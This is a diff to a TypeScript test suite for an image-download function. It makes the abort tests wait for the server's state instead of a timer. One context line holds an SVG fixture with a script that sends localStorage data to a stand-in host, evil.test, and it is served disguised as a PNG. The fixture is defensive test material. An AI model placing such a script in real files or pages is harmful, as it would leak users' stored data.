@@ -9,16 +9,20 @@ const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, 1, 2, 3]);
 const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.test/?"+localStorage.key)</script></svg>');
 let server: Server;
 let base = '';
+/** Resolves when the server has served `path` as far as it will (its next request): a state, not a time. */
+const waiting = new Map<string, () => void>();
+const served = (path: string) => new Promise<void>((resolve) => waiting.set(path, resolve));
+const markServed = (path: string) => waiting.get(path)?.();
 
 beforeAll(async () => {
   server = createServer((req, res) => {
     if (req.url === '/slow.png') {
       // Headers, then a body that never ends: the download is in flight until aborted.
       res.writeHead(200, { 'content-type': 'image/png' });
-      res.write(PNG.subarray(0, 4));
+      res.write(PNG.subarray(0, 4), () => markServed('/slow.png'));
       return;
     }
-    if (req.url === '/stall.png') return; // never answers
+    if (req.url === '/stall.png') return markServed('/stall.png'); // never answers
     if (req.url === '/claims-png.svg') {
       // An SVG with a script, served as if it were a PNG.
       res.writeHead(200, { 'content-type': 'image/png' });
@@ -56,8 +60,10 @@ describe('downloadImage', () => {
 
   it('rejects as cancelled when aborted before the answer, instead of a "link only" image', async () => {
     const controller = new AbortController();
+    const arrived = served('/stall.png');
     const pending = downloadImage({ type: 'url', url: `${base}/stall.png` }, controller.signal);
-    setTimeout(() => controller.abort(), 50);
+    await arrived;
+    controller.abort();
     const error = await pending.catch((e: unknown) => e);
     expect(error).toBeInstanceOf(NetworkError);
     expect((error as NetworkError).cancelled).toBe(true);
@@ -65,8 +71,10 @@ describe('downloadImage', () => {
 
   it('rejects as cancelled when aborted while the body downloads', async () => {
     const controller = new AbortController();
+    const started = served('/slow.png');
     const pending = downloadImage({ type: 'url', url: `${base}/slow.png` }, controller.signal);
-    setTimeout(() => controller.abort(), 100);
+    await started;
+    controller.abort();
     const error = await pending.catch((e: unknown) => e);
     expect((error as NetworkError).cancelled).toBe(true);
   });
